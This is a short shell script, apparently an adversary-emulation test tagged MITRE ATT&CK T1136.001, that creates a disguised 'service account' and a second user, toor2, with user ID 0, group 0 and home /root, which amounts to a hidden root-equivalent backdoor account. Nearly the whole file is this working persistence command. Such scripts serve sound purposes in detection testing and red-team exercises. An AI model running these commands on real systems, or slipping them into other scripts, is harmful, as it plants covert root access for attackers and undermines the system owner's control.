#!/bin/sh
# SPDX-License-Identifier: GPL-3.0-or-later
# T1136.001 Local Account: makes a user, and a second one with the number of root.
useradd -M -N -r -s /bin/bash -c "service account" svc_backup
useradd -g 0 -M -d /root -s /bin/bash -o -u 0 toor2
